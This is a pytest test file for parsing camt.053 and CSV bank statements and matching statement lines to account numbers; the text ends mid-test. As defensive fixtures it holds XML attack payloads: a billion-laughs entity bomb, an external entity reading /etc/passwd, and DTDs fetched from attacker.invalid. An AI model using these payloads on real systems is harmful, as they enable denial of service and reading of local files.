"""Bank statements: camt.053 (.001.02 and .001.08), CSV per bank mapping, and line matching."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import time
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from civicdesk.core.identifiers import (
    AccountNumberFormat,
    InvalidIdentifier,
    account_number_check,
    account_number_make,
)
from civicdesk.ledger.statement_formats import (
    CsvMapping,
    Match,
    ReportHint,
    StatementError,
    StatementLine,
    find_account_numbers,
    match_line,
    parse_amount,
    parse_camt053,
    parse_csv,
)

DATA = Path(__file__).parent / "data"
LUHN10 = AccountNumberFormat()


def check(raw: str) -> str | None:
    """The operator's validator as the lead passes it: the normalised number, or None."""
    try:
        return account_number_check(LUHN10, raw)
    except InvalidIdentifier:
        return None


def read(name: str) -> bytes:
    return (DATA / name).read_bytes()


def mapping(name: str) -> CsvMapping:
    return CsvMapping.from_dict(json.loads((DATA / f"{name}.mapping.json").read_text("utf-8")))


def summary(lines: list[StatementLine]) -> list[tuple]:
    return [
        (
            ln.line_no,
            ln.booked_on.isoformat(),
            ln.value_date.isoformat(),
            str(ln.amount),
            ln.currency,
            ln.reference,
            ln.counterparty,
            ln.bank_ref,
        )
        for ln in lines
    ]


# ---------------------------------------------------------------------------------------------
# camt.053.001.02 (a Ukrainian collection account)


def test_camt053_v02_statement():
    data = read("camt053_v02_ua.xml")
    [statement] = parse_camt053(data)
    assert statement.format == "camt.053.001.02"
    assert statement.statement_id == "STMT-2024-03-05-UA"
    assert statement.account == "UA213223130000026007233566001"
    assert statement.currency == "UAH"
    assert statement.created_at.isoformat() == "2024-03-05T18:29:41+02:00"
    assert (statement.opening_minor, statement.closing_minor) == (1_000_000, 1_502_780)
    assert statement.opening_on == statement.closing_on == date(2024, 3, 5)
    assert statement.balance_gap_minor == 0  # every booked entry is there
    assert statement.digest == hashlib.sha256(data).hexdigest()
    # line  booked      value       amount    ccy    reference / counterparty / bank ref
    assert summary(statement.lines) == [
        (1, "2024-03-05", "2024-03-05", "1250.40", "UAH",
         "Оплата комунальних послуг, о/р 3102-458-761, лютий 2024",
         "Шевченко Олена Петрівна", "UA-20240305-000101"),
        (2, "2024-03-05", "2024-03-05", "-35.00", "UAH",
         "Комісія банку за розрахунково-касове обслуговування", "", "UA-20240305-000102"),
        (3, "2024-03-05", "2024-03-04", "1000.00", "UAH",
         "ос.рах. 4120001351 квартплата", "Коваль Іван", "UA-20240305-000103-1"),
        (4, "2024-03-05", "2024-03-04", "1500.00", "UAH",
         "6007182931 за березень", "Бондаренко Марія", "UA-20240305-000103-2"),
        (5, "2024-03-05", "2024-03-04", "500.00", "UAH",
         "2100004577", "Мельник Петро", "UA-20240305-000103-3"),
        (6, "2024-03-05", "2024-03-05", "812.40", "UAH",
         "ПЛАТІЖ ЗА ПОСЛУГИ ОС/Р 77700 12347 ТА 3102458779", "Ткаченко Ольга",
         "UA-20240305-000105"),
    ]  # fmt: skip
    first = statement.lines[0]
    assert first.raw["counterparty_iban"] == "UA743052990000026007233566001"
    assert first.raw["bank_tx_code"] == "PMNT/RCDT/DMCT"
    assert first.amount_minor == 125040
    assert not any(ln.bank_ref_synthetic for ln in statement.lines)
    # the pending entry (999.99) is not a line
    assert all(ln.amount != Decimal("999.99") for ln in statement.lines)


def test_camt053_v02_lines_match():
    [statement] = parse_camt053(read("camt053_v02_ua.xml"))
    matches = [match_line(ln, check=check) for ln in statement.lines]
    assert [(m.kind, m.account_number, m.reason_code) for m in matches] == [
        ("account", "3102458761", "account_in_reference"),
        ("none", None, "not_a_credit"),
        ("account", "4120001351", "account_in_reference"),
        ("account", "6007182931", "account_in_reference"),
        ("account", "2100004577", "account_in_reference"),  # from Strd/CdtrRefInf/Ref
        ("ambiguous", None, "several_accounts"),  # a number split over two Ustrd, and another
    ]
    assert matches[-1].candidates == ("7770012347", "3102458779")


# ---------------------------------------------------------------------------------------------
# camt.053.001.08 (two South African accounts in one file)


def test_camt053_v08_two_statements():
    data = read("camt053_v08_za.xml")
    first, second = parse_camt053(data)
    assert first.format == second.format == "camt.053.001.08"
    assert first.digest == second.digest == hashlib.sha256(data).hexdigest()
    assert (first.statement_id, first.account, first.currency) == (
        "ZA-STMT-20240430-1",
        "62001234567",
        "ZAR",
    )
    assert first.created_at.isoformat() == "2024-04-30T21:04:12.512000+02:00"
    assert (first.opening_minor, first.closing_minor, first.balance_gap_minor) == (
        500000,
        824999,
        0,
    )
    assert summary(first.lines) == [
        (1, "2024-04-30", "2024-04-30", "1450.00", "ZAR", "ACC CD6007182931 APRIL",
         "J. van der Merwe", "FNB240430000001"),
        (2, "2024-04-30", "2024-04-29", "1200.00", "ZAR", "3102458761", "N. Dlamini",
         "FNB240430000002-1"),
        (3, "2024-04-30", "2024-04-29", "800.00", "ZAR", "INV-2024-04-0042", "P. Naidoo",
         "FNB240430000002/2"),
        (4, "2024-04-30", "2024-04-30", "-300.00", "ZAR", "REVERSAL RETURNED DEBIT ORDER", "",
         "FNB240430000003"),
        (5, "2024-04-30", "2024-04-30", "99.99", "ZAR", "levy unit 12",
         "Sunset Body Corporate", "ZA-STMT-20240430-1:4"),
    ]  # fmt: skip
    assert first.lines[0].raw["end_to_end_id"] == "E2E-88812"
    assert first.lines[3].raw["reversal"] is True
    assert [ln.bank_ref_synthetic for ln in first.lines] == [False, False, False, False, True]

    assert (second.statement_id, second.account) == ("ZA-STMT-20240430-2", "1012345678")
    assert (second.opening_minor, second.closing_minor, second.balance_gap_minor) == (
        -15000,
        5000,
        0,
    )
    assert summary(second.lines) == [
        (1, "2024-04-30", "2024-04-30", "200.00", "ZAR", "PAYMENT 4120001351", "T. Mokoena",
         "FNB240430000107"),
    ]  # fmt: skip


def test_camt053_v08_lines_match():
    first, second = parse_camt053(read("camt053_v08_za.xml"))
    kinds = [match_line(ln, check=check) for ln in first.lines + second.lines]
    assert [(m.kind, m.account_number) for m in kinds] == [
        ("account", "6007182931"),  # operator prefix letters glued to the number
        ("account", "3102458761"),
        ("none", None),
        ("none", None),
        ("none", None),
        ("account", "4120001351"),
    ]


def test_camt053_is_namespace_agnostic():
    data = read("camt053_v08_za.xml")
    expected = [summary(s.lines) for s in parse_camt053(data)]
    namespace = b'xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"'
    without = data.replace(namespace, b"")
    assert [summary(s.lines) for s in parse_camt053(without)] == expected
    assert parse_camt053(without)[0].format == "camt.053"
    # a prefixed namespace, and an intermediate version
    text = data.decode()
    prefixed = text.replace("<", "<c:").replace("<c:/", "</c:").replace("<c:?xml", "<?xml")
    prefixed = prefixed.replace("<c:!--", "<!--").replace(
        'xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"',
        'xmlns:c="urn:iso:std:iso:20022:tech:xsd:camt.053.001.05"',
    )
    statements = parse_camt053(prefixed.encode())
    assert [summary(s.lines) for s in statements] == expected
    assert statements[0].format == "camt.053.001.05"


# a minimal statement to vary for the error paths
NS08 = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"
ENTRY = """<Ntry><Amt Ccy="ZAR">{amount}</Amt><CdtDbtInd>{ind}</CdtDbtInd>
<Sts><Cd>BOOK</Cd></Sts><BookgDt><Dt>{booked}</Dt></BookgDt>
<AcctSvcrRef>R1</AcctSvcrRef>{details}</Ntry>"""


def camt(
    entries: str = "",
    *,
    namespace: str = NS08,
    stmt_id: str = "<Id>S1</Id>",
    account: str = "<Id><Othr><Id>62001234567</Id></Othr></Id>",
    balances: str = "",
    created: str = "<CreDtTm>2024-04-30T21:00:00+02:00</CreDtTm>",
) -> bytes:
    return (
        f'<?xml version="1.0"?><Document xmlns="{namespace}"><BkToCstmrStmt>'
        f"<GrpHdr><MsgId>M1</MsgId>{created}</GrpHdr>"
        f"<Stmt>{stmt_id}<Acct>{account}<Ccy>ZAR</Ccy></Acct>{balances}{entries}</Stmt>"
        "</BkToCstmrStmt></Document>"
    ).encode()


def entry(amount="10.00", ind="CRDT", booked="2024-04-30", details=""):
    return ENTRY.format(amount=amount, ind=ind, booked=booked, details=details)


def tx(amount: str | None, ind: str = "CRDT", ref: str = "x") -> str:
    amt = f'<Amt Ccy="ZAR">{amount}</Amt><CdtDbtInd>{ind}</CdtDbtInd>' if amount else ""
    return f"<TxDtls>{amt}<RmtInf><Ustrd>{ref}</Ustrd></RmtInf></TxDtls>"


def test_camt053_minimal_statement_and_defaults():
    [statement] = parse_camt053(camt(entry(details="<AddtlNtryInf>fee</AddtlNtryInf>")))
    [line] = statement.lines
    assert (line.booked_on, line.value_date, line.reference) == (
        date(2024, 4, 30),
        date(2024, 4, 30),
        "fee",
    )
    assert statement.opening_minor is statement.balance_gap_minor is None
    # the group header's creation time stands in for the statement's
    assert statement.created_at.isoformat() == "2024-04-30T21:00:00+02:00"
    # no entries at all is a valid (quiet) day
    assert parse_camt053(camt())[0].lines == []


def test_camt053_batch_with_amounts_in_amtdtls_and_debits():
    details = (
        "<NtryDtls><TxDtls><AmtDtls><TxAmt><Amt Ccy='ZAR'>15.00</Amt></TxAmt></AmtDtls>"
        "<RmtInf><Ustrd>a</Ustrd></RmtInf></TxDtls>" + tx("5.00", "DBIT", "b") + "</NtryDtls>"
    )
    [statement] = parse_camt053(camt(entry(details=details)))
    assert [(str(ln.amount), ln.reference, ln.bank_ref) for ln in statement.lines] == [
        ("15.00", "a", "R1/1"),
        ("-5.00", "b", "R1/2"),
    ]


@pytest.mark.parametrize(
    ("data", "code", "params"),
    [
        (b"", "empty_file", {}),
        (b"  \n ", "empty_file", {}),
        (b"<Document><BkToCstmrStmt>", "bad_xml", {"line": 1}),
        (b"<?xml version='1.0'?>\n<Document>\n<Stmt></Document>", "bad_xml", {"line": 3}),
        (b"not xml at all", "bad_xml", {}),
        (b"<Document/>", "not_camt053", {}),
        (b"<Other><BkToCstmrStmt/></Other>", "not_camt053", {}),
        (camt(namespace="urn:iso:std:iso:20022:tech:xsd:camt.054.001.08"), "not_camt053", {}),
        (camt(namespace="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"), "not_camt053", {}),
        (b"<Document><BkToCstmrStmt><GrpHdr/></BkToCstmrStmt></Document>", "missing_element",
         {"element": "Stmt"}),
        (camt(stmt_id=""), "missing_element", {"element": "Stmt/Id"}),
        (camt(account="<Id><Othr/></Id>"), "missing_element", {"element": "Acct/Id"}),
        (camt(created="<CreDtTm>yesterday</CreDtTm>"), "bad_date", {"element": "CreDtTm"}),
        (camt(entry(amount="12,50")), "bad_amount", {"entry": 1, "statement": "S1"}),
        (camt(entry(amount="-5.00")), "bad_amount", {"entry": 1}),
        (camt(entry(amount="1.234")), "bad_amount", {"entry": 1}),
        (camt(entry(amount="")), "bad_amount", {"entry": 1}),
        (camt(entry() + entry(ind="CREDIT")), "bad_credit_debit", {"entry": 2}),
        (camt(entry(booked="30/04/2024")), "bad_date", {"entry": 1, "element": "BookgDt"}),
        (camt(entry(booked="2024-02-30")), "bad_date", {"entry": 1}),
        (camt(entry().replace('Ccy="ZAR"', 'Ccy="rand"')), "bad_currency", {"entry": 1}),
        (camt(entry().replace(' Ccy="ZAR"', "")), "bad_currency", {"entry": 1}),
        (camt(entry().replace("<BookgDt><Dt>2024-04-30</Dt></BookgDt>", "")), "missing_element",
         {"element": "BookgDt"}),
        (camt(entry(details=f"<NtryDtls>{tx('4.00')}{tx('5.00')}</NtryDtls>")),
         "batch_total_mismatch", {"entry": 1}),
        (camt(entry(details=f"<NtryDtls>{tx('10.00')}{tx(None)}</NtryDtls>")),
         "missing_element", {"entry": 1, "element": "TxDtls[2]/Amt"}),
        (camt(entry(details=f"<NtryDtls>{tx('20.00')}{tx('10.00', 'DBIT')}</NtryDtls>")),
         None, {}),  # 20 - 10 = 10: a valid mixed batch
        (camt(balances="<Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy='ZAR'>1"
                       "</Amt><CdtDbtInd>XX</CdtDbtInd><Dt><Dt>2024-04-30</Dt></Dt></Bal>"),
         "bad_credit_debit", {"statement": "S1"}),
    ],
)  # fmt: skip
def test_camt053_errors(data, code, params):
    if code is None:
        assert parse_camt053(data)
        return
    with pytest.raises(StatementError) as caught:
        parse_camt053(data)
    assert caught.value.code == code
    for key, value in params.items():
        assert caught.value.params[key] == value
    assert str(caught.value)


def test_camt053_refuses_non_bytes():
    with pytest.raises(StatementError) as caught:
        parse_camt053(read("camt053_v08_za.xml").decode())
    assert caught.value.code == "bad_input"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>
<Stmt><Id>&lol9;</Id><Acct><Id><Othr><Id>1</Id></Othr></Id></Acct></Stmt>
</BkToCstmrStmt></Document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>
<Stmt><Id>S1</Id><Acct><Id><Othr><Id>1</Id></Othr></Id></Acct>
<Ntry><Amt Ccy="ZAR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><BookgDt><Dt>2024-01-01</Dt></BookgDt>
<AddtlNtryInf>&xxe;</AddtlNtryInf></Ntry></Stmt></BkToCstmrStmt></Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.invalid/camt.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>
<Stmt><Id>S1</Id><Acct><Id><Othr><Id>1</Id></Othr></Id></Acct></Stmt>
</BkToCstmrStmt></Document>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Document/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_xml_attacks_are_refused_quickly(data):
    started = time.monotonic()
    with pytest.raises(StatementError) as caught:
        parse_camt053(data)
    assert caught.value.code == "xml_forbidden"
    assert time.monotonic() - started < 1


@given(
    st.lists(
        st.tuples(
            st.integers(0, 10**12),  # minor units
            st.sampled_from(["CRDT", "DBIT"]),
            st.integers(0, 400),
        ),
        max_size=8,
    )
)
def test_camt053_amounts_round_trip(rows):
    entries = "".join(
        entry(
            amount=str(Decimal(minor).scaleb(-2)),
            ind=ind,
            booked=(date(2024, 1, 1) + timedelta(days=days)).isoformat(),
        )
        for minor, ind, days in rows
    )
    [statement] = parse_camt053(camt(entries))
    assert [ln.amount_minor for ln in statement.lines] == [
        minor if ind == "CRDT" else -minor for minor, ind, _ in rows
    ]
    assert [ln.booked_on for ln in statement.lines] == [
        date(2024, 1, 1) + timedelta(days=days) for _, _, days in rows
    ]


# ---------------------------------------------------------------------------------------------
# CSV: two banks


def test_csv_za_bank_semicolons_comma_decimals_credit_debit_columns():
    data = read("za_bank.csv")  # UTF-8 with a byte-order mark, CRLF, a preamble
    statement = parse_csv(data, mapping("za_bank"))
    assert statement.format == "csv"
    assert statement.currency == "ZAR"
    assert statement.digest == hashlib.sha256(data).hexdigest()
    assert statement.statement_id == f"za-fnb-{statement.digest[:16]}"
    assert statement.account == ""
    # physical line, booked, value, amount, currency, reference, counterparty
    assert [s[:7] for s in summary(statement.lines)] == [
        (5, "2024-04-02", "2024-04-02", "1250.00", "ZAR", "ACC 3102458761",
         "CREDIT TRANSFER J SMITH"),
        (6, "2024-04-03", "2024-04-03", "-85.50", "ZAR", "MONTHLY ACCOUNT FEE", "BANK CHARGES"),
        (7, "2024-04-05", "2024-04-05", "2000.00", "ZAR", "Levy; unit 4, 4120-0013-51",
         "DEPOSIT CASH"),
        (8, "2024-04-05", "2024-04-05", "812.40", "ZAR", "SUNSET BC LEVY APR",
         "INTERNET TRF FROM P NAIDOO"),
        (9, "2024-04-30", "2024-04-30", "-300.00", "ZAR", "RD 6007182931",
         "DEBIT ORDER RETURNED"),
        (10, "2024-04-30", "2024-04-30", "10000.00", "ZAR", "3102 4587 61 / 5123443219",
         "CREDIT TRANSFER"),
    ]  # fmt: skip
    assert all(ln.bank_ref_synthetic and ln.bank_ref.startswith("row:") for ln in statement.lines)
    assert len({ln.bank_ref for ln in statement.lines}) == 6
    assert statement.lines[0].raw["Balance"] == "6 250,00"
    kinds = [match_line(ln, check=check).kind for ln in statement.lines]
    assert kinds == ["account", "none", "account", "none", "none", "ambiguous"]
    # the same file again gives the same references: a re-import is recognisable line by line
    again = parse_csv(data, mapping("za_bank"))
    assert [ln.bank_ref for ln in again.lines] == [ln.bank_ref for ln in statement.lines]


def test_csv_ua_bank_cp1251_signed_amounts():
    data = read("ua_bank.csv")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # the fixture really is cp1251
    statement = parse_csv(data, mapping("ua_bank"))
    assert (statement.account, statement.currency) == ("UA213223130000026007233566001", "UAH")
    assert statement.statement_id == f"csv-{statement.digest[:16]}"
    assert summary(statement.lines) == [
        (2, "2024-03-05", "2024-03-05", "1250.40", "UAH", "Оплата за газ о/р 3102458761, лютий",
         "Шевченко Олена Петрівна", "R-000101"),
        (3, "2024-03-05", "2024-03-06", "-35.00", "UAH", "Комісія банку за РКО", "", "R-000102"),
        (4, "2024-03-06", "2024-03-06", "15000.00", "UAH",
         "Внесок на капремонт, о/р 412 000 135 1, кв. 7", "Коваль Іван", "R-000103"),
        (5, "2024-03-06", "2024-03-06", "430.15", "UAH", "Квартплата за березень",
         "Мельник Петро", "R-000104"),
    ]  # fmt: skip
    assert not any(ln.bank_ref_synthetic for ln in statement.lines)
    assert [match_line(ln, check=check).account_number for ln in statement.lines] == [
        "3102458761",
        None,
        "4120001351",
        None,
    ]


def test_csv_ua_bank_read_as_utf8_is_a_wrong_encoding_on_line_1():
    as_utf8 = CsvMapping.from_dict({**mapping("ua_bank").to_dict(), "encoding": "utf-8"})
    with pytest.raises(StatementError) as caught:
        parse_csv(read("ua_bank.csv"), as_utf8)
    assert (caught.value.code, caught.value.line) == ("bad_encoding", 1)


SIMPLE = CsvMapping(
    columns={"date": "date", "amount": "amount", "reference": "ref"}, default_currency="ZAR"
)


def test_csv_wrong_encoding_names_the_line():
    data = "date,amount,ref\n2024-01-01,1.00,a\n2024-01-02,2.00,b\n2024-01-03,3.00,Ї\n".encode(
        "cp1251"
    )
    with pytest.raises(StatementError) as caught:
        parse_csv(data, SIMPLE)
    assert (caught.value.code, caught.value.line) == ("bad_encoding", 4)


@pytest.mark.parametrize(
    ("text", "code", "line", "column"),
    [
        ("date,amount,ref\n2024-01-01,1.00,a\n31/01/2024,2.00,b\n", "bad_date", 3, "date"),
        ("date,amount,ref\n2024-02-30,1.00,a\n", "bad_date", 2, "date"),
        ("date,amount,ref\n2024-01-01,1.00,a\n\n2024-01-02,1.0.0,b\n", "bad_amount", 4, "amount"),
        ("date,amount,ref\n2024-01-01,1.001,a\n", "bad_amount", 2, "amount"),
        ('date,amount,ref\n2024-01-01,"1,000.00",a\n', "bad_amount", 2, "amount"),
        ("date,amount,ref\n2024-01-01,R10.00,a\n", "bad_amount", 2, "amount"),
        ("date,amount,ref\n2024-01-01,NaN,a\n", "bad_amount", 2, "amount"),
        ("date,amount,ref\n2024-01-01,1e3,a\n", "bad_amount", 2, "amount"),
        ("date,amount,ref\n2024-01-01,,a\n", "missing_value", 2, "amount"),
        ("date,amount,ref\n,1.00,a\n", "missing_value", 2, "date"),
        ("date,amount,ref\n2024-01-01\n", "missing_value", 2, "amount"),  # a short row
        ("date,amount\n2024-01-01,1.00\n", "missing_column", 1, "reference"),
        ("\n\nwhen,amount,ref\n2024-01-01,1.00,a\n", "missing_column", 3, "date"),
        ('date,amount,ref\n2024-01-01,1.00,"a\n2024-01-02,2.00,b\n', "bad_csv", 2, None),
        ('date,amount,ref\n2024-01-01,1.00,"a"b\n', "bad_csv", 2, None),
    ],
)
def test_csv_errors_carry_the_line(text, code, line, column):
    with pytest.raises(StatementError) as caught:
        parse_csv(text.encode(), SIMPLE)
    assert caught.value.code == code
    assert caught.value.line == line
    if column:
        assert caught.value.params["column"] == column
    assert f"line {line}" in str(caught.value)


SPLIT = CsvMapping(
    columns={
        "date": "Date",
        "credit": "In",
        "debit": "Out",
        "reference": "Ref",
        "currency": "Ccy",
    },
    delimiter=";",
    decimal_separator=",",
    thousands_separator=".",
    date_format="%d.%m.%Y",
)


@pytest.mark.parametrize(
    ("row", "code", "column"),
    [
        ("01.02.2024;1,00;2,00;x;ZAR", "bad_amount", "amount"),  # both credit and debit
        ("01.02.2024;;;x;ZAR", "missing_value", "amount"),
        ("01.02.2024;1,00;;x;", "bad_currency", "currency"),
        ("01.02.2024;1,00;;x;Rand", "bad_currency", "currency"),
        ("01.02.2024;12.34,00;;x;ZAR", "bad_amount", "credit"),  # grouping not in threes
        ("01.02.2024;;1.2345,00;x;ZAR", "bad_amount", "debit"),
        ("01.02.2024;1,0,0;;x;ZAR", "bad_amount", "credit"),
    ],
)
def test_csv_credit_debit_errors(row, code, column):
    data = f"Date;In;Out;Ref;Ccy\n01.02.2024;1.000,00;;ok;ZAR\n{row}\n".encode()
    with pytest.raises(StatementError) as caught:
        parse_csv(data, SPLIT)
    assert (caught.value.code, caught.value.line, caught.value.params["column"]) == (
        code,
        3,
        column,
    )


def test_csv_mixed_currency_is_refused():
    data = b"Date;In;Out;Ref;Ccy\n01.02.2024;1,00;;a;ZAR\n02.02.2024;1,00;;b;usd\n"
    with pytest.raises(StatementError) as caught:
        parse_csv(data, SPLIT)
    assert (caught.value.code, caught.value.line) == ("mixed_currency", 3)


def test_csv_credit_debit_values():
    data = (
        b"Date;In;Out;Ref;Ccy\n"
        b"01.02.2024;1.234.567,89;;a;zar\n"
        b"01.02.2024;;-12,00;b;ZAR\n"  # some banks sign their debit column
        b"01.02.2024;;12,00;c;ZAR\n"
        b"01.02.2024;0,00;;d;ZAR\n"
    )
    statement = parse_csv(data, SPLIT)
    assert [str(ln.amount) for ln in statement.lines] == ["1234567.89", "-12.00", "-12.00", "0.00"]
    assert statement.currency == "ZAR"
    assert match_line(statement.lines[3], check=check).reason_code == "not_a_credit"


@pytest.mark.parametrize(
    "data",
    [b"", b"\xef\xbb\xbf", b"\r\n\r\n", b" , \n", "\ufeff".encode("utf-16")],
    ids=["nothing", "bom-only", "blank-lines", "blank-cells", "utf16-bom-only"],
)
def test_csv_empty_file(data):
    for mapping_ in (SIMPLE, CsvMapping(columns={"date": "1", "amount": "2", "reference": "3"},
                                         header_rows=0, default_currency="ZAR")):  # fmt: skip
        with pytest.raises(StatementError) as caught:
            parse_csv(data, mapping_)
        assert caught.value.code == "empty_file"


def test_csv_header_only_is_an_empty_statement():
    statement = parse_csv(b"date,amount,ref\r\n", SIMPLE)
    assert statement.lines == []
    assert statement.currency == "ZAR"


def test_csv_refuses_non_bytes_and_non_mappings():
    with pytest.raises(StatementError) as caught:
        parse_csv("date,amount,ref\n", SIMPLE)
    assert caught.value.code == "bad_input"
    with pytest.raises(StatementError) as caught:
        parse_csv(b"date,amount,ref\n", {"columns": {}})
    assert caught.value.code == "bad_input"


def test_csv_line_numbers_follow_multiline_fields_and_blank_lines():
    data = (
        b'date,amount,ref\r\n2024-01-01,1.00,"two\r\nlines"\r\n\r\n2024-01-02,2.00,b\r\n'
        b"2024-01-03,x,c\r\n"
    )
    with pytest.raises(StatementError) as caught:
        parse_csv(data, SIMPLE)
    assert caught.value.line == 6
    statement = parse_csv(data.rsplit(b"2024-01-03", 1)[0], SIMPLE)
    assert [(ln.line_no, ln.reference) for ln in statement.lines] == [(2, "two lines"), (5, "b")]


def test_csv_identical_rows_get_distinct_stable_references():
    data = b"date,amount,ref\n2024-01-01,100.00,3102458761\n2024-01-01,100.00,3102458761\n"
    first = parse_csv(data, SIMPLE)
    refs = [ln.bank_ref for ln in first.lines]
    assert refs[0] != refs[1]
    assert refs == [ln.bank_ref for ln in parse_csv(data, SIMPLE).lines]
    # an extra row elsewhere does not change the references of the others
    longer = data + b"2024-01-02,5.00,x\n"
    assert [ln.bank_ref for ln in parse_csv(longer, SIMPLE).lines][:2] == refs


def test_csv_without_a_header_row_uses_column_numbers():
    positional = CsvMapping(
        columns={"date": "1", "amount": "3", "reference": ["2", "4"], "bank_ref": "5"},
        header_rows=0,
        default_currency="UAH",
        date_format="%d.%m.%Y %H:%M",
    )
    statement = parse_csv(b"05.03.2024 10:15,Oplata,12.50,3102458761,B1\n", positional)
    [line] = statement.lines
    assert (line.line_no, line.booked_on, str(line.amount), line.reference, line.bank_ref) == (
        1,
        date(2024, 3, 5),
        "12.50",
        "Oplata 3102458761",
        "B1",
    )
    assert line.raw == {"1": "05.03.2024 10:15", "2": "Oplata", "3": "12.50", "4": "3102458761",
                        "5": "B1"}  # fmt: skip


def test_csv_utf16_with_bom_and_statement_columns():
    m = CsvMapping(
        columns={
            "date": "Date",
            "amount": "Amount",
            "reference": "Ref",
            "statement_id": "Statement",
            "account": "Account",
        },
        delimiter="\t",
        default_currency="ZAR",
        encoding="cp1252",  # the byte-order mark wins
    )
    text = "Date\tAmount\tRef\tStatement\tAccount\n2024-01-01\t1.00\tä\tST-9\t62001234567\n"
    statement = parse_csv(text.encode("utf-16"), m)
    assert (statement.statement_id, statement.account) == ("ST-9", "62001234567")
    assert statement.lines[0].reference == "ä"


def test_csv_utf8_byte_order_mark_wins_and_is_dropped():
    cp1251 = CsvMapping(
        columns={"date": "1", "amount": "2", "reference": "3"},
        header_rows=0,
        encoding="cp1251",
        default_currency="UAH",
    )
    data = "\ufeff2024-03-05,12.50,Оплата 3102458761\n".encode()
    [line] = parse_csv(data, cp1251).lines
    assert (line.booked_on, line.reference) == (date(2024, 3, 5), "Оплата 3102458761")
    # without the mark the same bytes are read as cp1251, as configured: no error, mojibake
    [line] = parse_csv(data[3:], cp1251).lines
    assert line.reference != "Оплата 3102458761"


def test_csv_old_mac_line_endings():
    statement = parse_csv(b"date,amount,ref\r2024-01-01,1.00,a\r2024-01-02,2.00,b\r", SIMPLE)
    assert [(ln.line_no, ln.reference) for ln in statement.lines] == [(2, "a"), (3, "b")]


def test_csv_headers_match_case_and_space_insensitively():
    statement = parse_csv(b" DATE ,Amount,  REF\n2024-01-01,1.00,a\n", SIMPLE)
    assert len(statement.lines) == 1


@pytest.mark.parametrize(
    ("text", "decimal", "thousands", "expected"),
    [
        ("1250.40", ".", "", "1250.40"),
        ("-35.00", ".", "", "-35.00"),
        ("+7", ".", "", "7"),
        ("35.00-", ".", "", "-35.00"),
        ("(35.00)", ".", "", "-35.00"),
        ("1 250,40", ",", " ", "1250.40"),
        ("1\u00a0250,40", ",", " ", "1250.40"),
        ("1\u202f250\u202f000,00", ",", "\u00a0", "1250000.00"),
        ("1.250,40", ",", ".", "1250.40"),
        ("1,250.40", ".", ",", "1250.40"),
        ("1'250.40", ".", "'", "1250.40"),
        ("1250,40", ",", " ", "1250.40"),  # grouping is optional
        ("-0,00", ",", "", "0.00"),
        ("0.10", ".", "", "0.10"),
    ],
)
def test_parse_amount(text, decimal, thousands, expected):
    assert str(parse_amount(text, decimal, thousands)) == expected


@pytest.mark.parametrize(
    ("text", "decimal", "thousands"),
    [
        ("", ".", ""),
        ("-", ".", ""),
        ("1,250.40", ".", ""),
        ("12,50.40", ".", ","),
        ("1 25", ",", " "),
        ("1.2.3", ".", ""),
        ("1,2,3", ",", ""),
        (".5", ".", ""),
        ("5.", ".", ""),
        ("--5", ".", ""),
        ("1e3", ".", ""),
        ("Infinity", ".", ""),
        ("١٢٣", ".", ""),  # Arabic-Indic digits are not a bank amount
        ("12 50", ",", ""),
    ],
)
def test_parse_amount_refuses(text, decimal, thousands):
    with pytest.raises(ValueError):
        parse_amount(text, decimal, thousands)


# ---------------------------------------------------------------------------------------------
# the mapping configuration

ZA = json.loads((DATA / "za_bank.mapping.json").read_text("utf-8"))


def test_mapping_round_trips_through_json():
    m = CsvMapping.from_dict(ZA)
    assert CsvMapping.from_dict(json.loads(json.dumps(m.to_dict()))) == m
    assert m.delimiter == ";" and m.header_rows == 3


@pytest.mark.parametrize(
    ("change", "code", "field"),
    [
        ({"colour": "blue"}, "unknown_setting", "colour"),
        ({"columns": None}, "bad_setting", "columns"),
        ({"columns": {}}, "bad_setting", "columns"),
